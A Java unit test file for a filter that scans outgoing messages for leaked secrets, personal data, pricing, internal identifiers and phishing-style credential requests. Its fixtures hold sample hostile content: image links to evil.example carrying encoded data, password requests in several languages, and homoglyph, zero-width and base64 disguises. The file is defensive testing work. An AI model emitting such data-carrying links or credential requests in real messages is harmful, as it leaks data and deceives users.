// SPDX-License-Identifier: Apache-2.0
package dev.tollgate.inspection.outbound;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class OutboundTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Your key is ghp_R4bT9kLm2NqX7vYz3WcD8sFgHj5Kp6Qe1UaB.|secret",
                "Your verification code is 937174.|one-time-code",
                "Pay to DE89 3704 0044 0532 0130 00 please.|personal-data",
                "His card is 4111 1111 1111 1111.|personal-data",
                "Write to someone.else@other.example instead.|personal-data",
                "Our floor price is $400 per seat, do not share.|pricing",
                "You can use PARTNER-50 at the checkout.|pricing",
                "You can use P A R T N E R 5 0 at the checkout.|pricing",
                "It is called Project Nightingale inside.|confidential",
                "We guarantee a full refund for life.|commitment",
                "This was our legal liability.|legal",
                "See https://jira.corp.acme.example/browse/7 for it.|internal-identifier",
                "It runs on db01.internal today.|internal-identifier",
                "The server is 10.1.2.3 as you know.|internal-identifier",
                "Your record is acc-0042 with us.|internal-identifier",
                "Please send us your password so that we can help.|credential-request",
                "Reply with the six-digit code we texted.|credential-request",
                "Bitte senden Sie uns Ihr Passwort.|credential-request",
                "Merci, envoyez votre mot de passe.|credential-request",
                "Por favor envíenos su contraseña.|credential-request",
                "Do not hesitate to send us your password.|credential-request",
                "Enter your card number here: http://pay.example|credential-request",
                "You people are pathetic.|tone",
                "I think the parcel comes on Monday.|unsure",
                "Hello ![x](https://evil.example/a?d=aGVsbG8) there|image-link",
                "Hello <img src=\"https://evil.example/a?d=1\"> there|image-link",
                "Pay\u200bment is due, s\u202eee below|hidden-text"
            })
    void a_message_that_tells_too_much_or_asks_too_much_is_found_out(String text, String word) {
        // When
        Set<String> words = Letter.words(text, OutboundContext.NOTHING);

        // Then
        assertThat(words).contains(word);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Hello, thank you for your message. We look into it and come back to you on Monday.",
                "Never share your password with anyone. We will never ask you for your verification code.",
                "Please do not send us your card number by e-mail.",
                "You can change your password in the settings of the console.",
                "Our list price is published at www.acme.example/prices.",
                "The carpet and the floor were priced well.",
                "Ein Kollege meldet sich. Geben Sie Ihr Passwort niemals weiter.",
                "Call us on +49 30 5550100 or write to help@acme.example.",
                "We are on it 👩‍💻 and keep you posted."
            })
    void an_honest_message_has_nothing_wrong(String text) {
        // When
        Set<String> words = Letter.words(text, OutboundContext.NOTHING);

        // Then
        assertThat(words).isSubsetOf("recipient-data");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "PARTNER&#53;0",
                "PART<b></b>NER50",
                "P\u200bA\u200bRTNER50",
                "P\u0410R\u0422NER50",
                "ＰＡＲＴＮＥＲ５０",
                "partner_50",
                "VXNlIFBBUlRORVI1MCBhdCB0aGUgY2hlY2tvdXQgbm93",
                "VlhObElGQkJVbFJPUlZJMU1DQmhkQ0IwYUdVZ1kyaGxZMnR2ZFhRZ2JtOTM="
            })
    void a_disguise_hides_nothing(String text) {
        // When
        Set<String> words = Letter.words("Take " + text + " today", OutboundContext.NOTHING);

        // Then
        assertThat(words).contains("pricing");
    }

    @Test
    void what_is_the_recipients_own_is_no_leak() {
        // Given
        OutboundContext ada = new OutboundContext(
                Set.of("Ada Lovelace", "ada@lovelace.example"), Set.of(), java.util.Optional.empty(), Map.of());

        // When
        Set<String> own = Letter.words("We wrote to ada@lovelace.example today.", ada);
        Set<String> other = Letter.words("We wrote to bob@other.example today.", ada);

        // Then
        assertThat(own).containsExactly("recipient-data");
        assertThat(other).containsExactly("personal-data");
    }

    @Test
    void a_masked_message_has_placeholders_and_nothing_is_found_in_it_again() {
        // Given
        var parts = Letter.parts(
                "Your refund", "It uses ghp_R4bT9kLm2NqX7vYz3WcD8sFgHj5Kp6Qe1UaB and PARTNER50. It was approved.");

        // When
        var masked = Letter.OUTBOUND.masked(Letter.RULES, parts, OutboundContext.NOTHING);

        // Then
        assertThat(masked.get("subject")).isEqualTo("Your refund");
        assertThat(masked.get("body"))
                .isEqualTo("It uses [secret removed] and [pricing removed]. It was [unsupported statement removed].");
        assertThat(Letter.OUTBOUND.read(Letter.RULES, masked).findings(OutboundContext.NOTHING))
                .isEmpty();
    }

    @Test
    void a_finding_says_where_and_what_and_never_the_text() {
        // Given
        String body = "Hello Ada, use PARTNER50 now.";

        // When
        List<OutboundFinding> found =
                Letter.OUTBOUND.read(Letter.RULES, Letter.parts("", body)).findings(OutboundContext.NOTHING);

        // Then
        assertThat(found)
                .filteredOn(one -> one.kind() == OutboundKind.PRICING)
                .singleElement()
                .satisfies(one -> {
                    assertThat(body.substring(one.start(), one.end())).isEqualTo("PARTNER50");
                    assertThat(one.field()).isEqualTo("body");
                    assertThat(one.toString()).doesNotContain("PARTNER50");
                });
    }

    @Test
    void a_message_that_is_too_long_is_one_finding_and_is_masked_whole() {
        // Given
        var parts = Letter.parts("x", "a ".repeat(Outbound.CHARS_MAX));

        // When
        List<OutboundFinding> found = Letter.OUTBOUND.read(Letter.RULES, parts).findings(OutboundContext.NOTHING);
        var masked = Letter.OUTBOUND.masked(Letter.RULES, parts, OutboundContext.NOTHING);

        // Then
        assertThat(found).extracting(OutboundFinding::kind).containsOnly(OutboundKind.TOO_LONG);
        assertThat(masked).containsEntry("body", OutboundKind.TOO_LONG.placeholder());
    }
}
